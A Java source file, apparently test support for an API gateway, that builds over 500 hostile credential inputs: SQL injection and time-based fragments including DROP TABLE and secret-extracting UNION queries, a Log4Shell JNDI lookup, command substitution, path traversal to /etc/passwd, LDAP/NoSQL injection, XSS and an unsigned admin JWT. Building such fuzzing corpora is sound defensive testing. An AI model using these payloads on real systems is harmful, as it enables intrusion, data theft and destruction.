package io.serai.gateway.http;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** What scanners send in the place of a credential: SQL of several dialects, time-based too, and a few things besides. */
final class HostilePayloads {

    private static final List<String> STARTS =
            List.of("", "'", "\"", "`", "')", "'))", "\\'", "%27", "''", "1'", "serai_'", "-1 ", "admin'", "0x27");

    private static final List<String> MIDDLES = List.of(
            " OR 1=1",
            " OR '1'='1",
            " OR 'a' LIKE 'a",
            " AND 1=2",
            " UNION SELECT NULL",
            " UNION ALL SELECT secret FROM api_key_secret",
            " UNION SELECT version()",
            "; DROP TABLE api_key",
            "; DELETE FROM tenant",
            "; SELECT pg_sleep(10)",
            " AND (SELECT 1 FROM pg_sleep(10)) IS NULL",
            " OR SLEEP(10)",
            " AND BENCHMARK(10000000,SHA1(1))",
            "; WAITFOR DELAY '0:0:10'",
            " AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
            "||(SELECT current_user)||",
            " OR EXISTS(SELECT * FROM users)",
            "; CALL SYSTEM_EXIT()",
            "; CREATE ALIAS X AS $$void x(){}$$",
            " INTO OUTFILE '/x'");

    private static final List<String> ENDS = List.of("", " --", " #", "/*", ";", " -- -");

    private static final List<String> OTHERS = List.of(
            "${jndi:ldap://a.test/x}",
            "${env:HOME}",
            "{{env:HOME}}",
            "#{7*7}",
            "%{7*7}",
            "$(id)",
            "`id`",
            "../../../../etc/passwd",
            "%00",
            "{\"$ne\":null}",
            "*)(uid=*))(|(uid=*",
            "<script>alert(1)</script>",
            "true",
            "null",
            "undefined",
            "[object Object]",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.");

    private HostilePayloads() {}

    /** 500 or more, all different. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>(OTHERS);
        for (String start : STARTS) {
            for (String middle : MIDDLES) {
                for (String end : ENDS) {
                    if ((start.length() + middle.length() + end.length()) % 3 != 0) {
                        all.add(start + middle + end);
                    }
                }
            }
        }
        return new ArrayList<>(all);
    }
}
